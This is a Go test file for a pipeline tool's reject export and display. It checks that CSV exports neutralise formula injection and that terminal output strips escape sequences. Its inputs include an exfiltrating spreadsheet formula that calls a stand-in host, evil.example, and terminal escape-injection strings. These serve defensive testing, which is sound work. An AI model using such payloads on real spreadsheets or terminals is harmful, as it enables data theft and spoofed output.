package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"sluice/pipeline/state"
)

// TestExportedFormulas proves that no text of the data is a formula in a CSV of rejects, and that JSON has it as it is.
func TestExportedFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1)`: `'=HYPERLINK("http://evil.example/?"&A1)`,
		"=1+1":                                   "'=1+1",
		"+1":                                     "'+1",
		"-1":                                     "'-1",
		"@SUM(A1)":                               "'@SUM(A1)",
		"\t=1":                                   "'\t=1",
		"\r=1":                                   "'\r=1",
		"a=1":                                    "a=1",
		"'=1":                                    "'=1",
		"10,2\n":                                 "10,2\n",
		"":                                       "",
		"property \"x\":":                        "property \"x\":",
	} {
		letters := []state.DeadLetter{{Pipeline: "p", Place: text, Key: text, Code: text, Message: text}}
		var out bytes.Buffer
		if err := exportRejects(&out, "csv", letters); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, column := range []int{2, 3, 5, 7} {
			got := strings.ReplaceAll(rows[1][column], "\r\n", "\n")
			if got != want {
				t.Errorf("%s of %q is %q, want %q", rows[0][column], text, got, want)
			}
		}
		out.Reset()
		if err := exportRejects(&out, "jsonl", letters); err != nil {
			t.Fatal(err)
		}
		var back state.DeadLetter
		if err := json.Unmarshal(out.Bytes(), &back); err != nil || back.Message != text || back.Key != text {
			t.Errorf("as JSON %q is %q, %v", text, back.Message, err)
		}
	}
}

// TestRejectsOnATerminal proves that what stands in the data can't write to the terminal but where it stands.
func TestRejectsOnATerminal(t *testing.T) {
	var out bytes.Buffer
	evil := "a\x1b]0;owned\x07\x1b[2J\r\n\tb\u202ec\u009b31m"
	if err := printRejects(&out, []state.DeadLetter{{ID: 1, Pipeline: "p", Place: evil, Key: evil, Stage: "sink", Code: "c", State: "open", Message: evil}}); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n"); len(lines) != 2 {
		t.Errorf("%d lines, want 2:\n%q", len(lines), out.String())
	}
	if at := strings.IndexAny(out.String(), "\x1b\x07\r\t\u202e\u009b"); at >= 0 {
		t.Errorf("a control character is printed: %q", out.String()[at:])
	}
}

// TestExportHasAll proves that an export leaves no reject out, as many as there are: other than the list, which is for people,
// and says what it leaves out.
func TestExportHasAll(t *testing.T) {
	const rows = 120
	t.Chdir(t.TempDir())
	csv := "id,size\n"
	for i := range rows {
		csv += fmt.Sprintf("%d,none\n", i)
	}
	for name, text := range map[string]string{"people.csv": csv, "pipelines.yaml": `version: 1
connections:
  crm:
    hubspot: { access_token: none }
pipelines:
  people:
    source: { csv: people.csv }
    key: id
    transforms: [ map: { person_id: id, size: { from: size, type: int } } ]
    sink: { hubspot: { connection: crm, object: contacts, match: person_id } }
`} {
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	sluice := func(args ...string) (string, int) {
		var out, log bytes.Buffer
		code := Main(args, &out, &log, os.LookupEnv, nil)
		return out.String(), code
	}
	if out, code := sluice("run", "--sandbox"); code != 3 {
		t.Fatalf("code %d: %s", code, out)
	}
	for command, want := range map[string]int{"export": rows + 1, "list": 1 + 100 + 5, "list --limit 7": 1 + 7 + 5, "list --limit 120": 1 + rows, "list --limit 0": 1 + rows} {
		out, code := sluice(append([]string{"rejects", "--sandbox"}, strings.Fields(command)...)...)
		if got := strings.Count(out, "\n"); code != 0 || got != want {
			t.Errorf("%s: %d lines, want %d; code %d", command, got, want, code)
		}
		if rest := "\nand 20 more; --limit 0 lists all 120:\n\npipeline  code     rejects\npeople    bad_int  120\n"; command == "list" && !strings.HasSuffix(out, rest) {
			t.Errorf("it ends\n%s\nwant\n%s", out[len(out)-len(rest):], rest)
		}
	}
}
